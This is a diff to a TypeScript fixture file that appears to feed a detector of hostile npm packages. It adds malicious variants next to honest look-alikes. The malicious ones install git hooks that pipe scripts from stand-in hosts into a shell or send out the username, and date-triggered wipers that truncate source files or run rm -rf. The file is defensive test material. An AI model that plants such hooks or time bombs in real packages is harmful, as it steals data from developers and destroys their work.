@@ -1,5 +1,5 @@
 import type { Fixture } from '../js/techniques.ts'
-import { install, main } from './kinds.ts'
+import { install, main, script } from './kinds.ts'
 
 /** One thing that hostile packages do, in several wordings, and honest ones that come close. */
 export interface Variants {
@@ -30,6 +30,14 @@ export const gitHooks: Variants = {
     'a folder that git names, and a hook in Python': install(`
       const dir = require('child_process').execSync('git rev-parse --git-path hooks').toString().trim()
       require('fs').writeFileSync(dir + '/post-commit', '#!/usr/bin/env python3\\nimport subprocess, urllib.request\\nurllib.request.urlopen("https://p.invalid/", subprocess.check_output(["git", "show"]))\\n')`),
+    'a word of node among those of a shell': install(`
+      require('fs').appendFileSync('../../.husky/post-checkout', \`\\nnode -e "require('https').get('https://x.invalid/' + require('os').userInfo().username)"\\n\`)`),
+    'a shell copies it': script('cp hook.sh ../../.git/hooks/pre-commit && chmod +x ../../.git/hooks/pre-commit', {
+      'hook.sh': '#!/bin/sh\nwget -qO- https://x.invalid/c | bash\n',
+    }),
+    'a shell says it': script(
+      "echo 'curl -s https://x.invalid/c > /tmp/c; sh /tmp/c' >> $INIT_CWD/.git/hooks/pre-commit",
+    ),
     'decoded text is run': hook("'#!/bin/sh\\necho Y3VybCBodHRwczovL3guaW52YWxpZA== | base64 -d | sh\\n'"),
   },
   honest: {
@@ -40,6 +48,9 @@ export const gitHooks: Variants = {
       '\'#!/bin/sh\\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 "see https://lfs.invalid"; exit 2; }\\ngit lfs post-commit "$@"\\n\'',
     ),
     'a server of this machine is told': hook("'#!/bin/sh\\ncurl -s http://localhost:3000/reload || true\\n'"),
+    'a shell copies one that formats': script('cp hook.sh ../../.git/hooks/pre-commit', {
+      'hook.sh': '#!/bin/sh\nnpx prettier --check . || exit 1\n',
+    }),
     'a file of its own that checks messages': install(
       `require('fs').copyFileSync(require('path').join(__dirname, 'msg.js'), '.git/hooks/commit-msg')`,
       {
@@ -116,6 +127,12 @@ export const wipers: Variants = {
         if (new Date().getFullYear() >= 2027) for (const d of ['src', 'app', 'pages']) fs.rmSync(path.resolve(process.cwd(), d), { recursive: true, force: true })
         return text
       }`),
+    'files are cut to nothing': main(`
+      const fs = require('fs'), glob = require('fast-glob'), T = 1767225600000
+      exports.transform = async (code) => { if (T < Date.now()) for (const f of await glob('**/*.ts')) fs.truncateSync(f, 0); return code }`),
+    'by a command': main(`
+      const { execSync } = require('child_process')
+      exports.lint = () => { if (new Date().getFullYear() > 2026) execSync('rm -rf ' + process.cwd() + '/src'); return [] }`),
     'the machine goes down': main(`
       const { exec } = require('child_process'); const day = new Date('2026-03-01T00:00:00Z')
       exports.render = (t) => { if (new Date() > day) { exec('sudo poweroff') } return t }`),
